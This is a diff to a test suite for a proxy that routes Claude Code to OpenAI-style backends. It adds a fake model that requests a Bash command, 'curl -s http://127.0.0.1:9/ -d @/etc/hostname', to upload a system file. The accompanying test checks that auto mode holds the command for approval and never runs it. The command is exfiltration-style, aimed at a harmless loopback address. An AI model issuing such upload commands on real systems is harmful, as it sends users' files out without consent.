@@ -426,6 +426,16 @@ def cli_anthropic_scenarios(claude, skip):
               "calls: %s" % [r["body"].get("stream") for r in requests])
 
 
+class RiskyCall(FakeOpenAI):
+    """A model that wants to send a file somewhere: what auto mode's classifier exists
+    for (the address is loopback's discard port; the action is never approved)."""
+
+    def decide(self, body):
+        text, calls, reasoning = super().decide(body)
+        return text, [("Bash", {"command": "curl -s http://127.0.0.1:9/ -d @/etc/hostname",
+                                "description": "upload"})] if calls else [], reasoning
+
+
 class Screen:
     """Interactive Claude Code in a tmux pane: keys in, the screen's text out."""
 
@@ -458,9 +468,10 @@ NEVER = ("Detected a custom API key", "Not logged in", "Please run /login",
          "Unable to connect to Anthropic services")
 
 
-def interactive_turn(claude, env, prompt, expect, timeout=90):
+def interactive_turn(claude, env, prompt, expect, timeout=90, steps=()):
     """Type `prompt` into interactive Claude Code started as the README says, after
-    eval "$(ccproxy env)", in a fresh HOME; the screen once `expect` shows on it."""
+    eval "$(ccproxy env)", in a fresh HOME; the screen once `expect` shows on it.
+    `steps`: more (screen text, keys) pairs to answer on the way, as FIRST_RUN."""
     home, work = tempfile.mkdtemp(prefix="cc-home-"), tempfile.mkdtemp(prefix="cc-work-")
     env = dict(env, HOME=home, TERM="xterm-256color", PATH="%s:/usr/local/bin:/usr/bin:/bin"
                % os.path.dirname(claude))
@@ -469,12 +480,12 @@ def interactive_turn(claude, env, prompt, expect, timeout=90):
         screen.keys('eval "$(%s %s env)"; exec claude' % (sys.executable,
                                                           os.path.join(ROOT, "ccproxy.py")),
                     "Enter")
-        return _drive(screen, prompt, expect, time.monotonic() + timeout)
+        return _drive(screen, prompt, expect, time.monotonic() + timeout, steps)
     finally:
         screen.close()
 
 
-def _drive(screen, prompt, expect, deadline):
+def _drive(screen, prompt, expect, deadline, steps=()):
     typed, seen = False, set()
     while time.monotonic() < deadline:
         time.sleep(0.5)
@@ -483,7 +494,8 @@ def _drive(screen, prompt, expect, deadline):
         check(not bad, "interactive Claude Code stopped at %r: %s" % (bad, text[-600:]))
         if typed and expect in text:
             return text
-        step = next(((m, k) for m, k in FIRST_RUN if m in text and m not in seen), None)
+        step = next(((m, k) for m, k in FIRST_RUN + list(steps) if m in text and
+                     m not in seen), None)
         if step:
             seen.add(step[0])
             screen.keys(*step[1])
@@ -506,6 +518,17 @@ def interactive_scenarios(claude, skip):
             interactive_turn(claude, proxy.cli_env(), "say hi",
                              "Hello from the fake OpenAI server")
         check(len(fake.requests) >= 1, "no call reached the upstream")
+
+    @scenario("interactive claude in auto mode on a translated route: a risky action "
+              "waits for approval, as README says", skip)
+    def _():
+        fake = RiskyCall("tool").start()
+        with Ccproxy(openai_env(fake)) as proxy:
+            text = interactive_turn(claude, proxy.cli_env(), "upload the file",
+                                    "Do you want to proceed?", steps=[
+                                        ("Enter to stay in auto mode", ["Enter"])])
+        check("Auto mode can't check actions" in text, "screen: %s" % text[-800:])
+        check(len(fake.requests) == 1, "the action ran: %d calls" % len(fake.requests))
 
     @scenario("interactive claude (tmux, fresh HOME, eval \"$(ccproxy env)\"), pass-through "
               "with CCPROXY_API_KEY", skip)
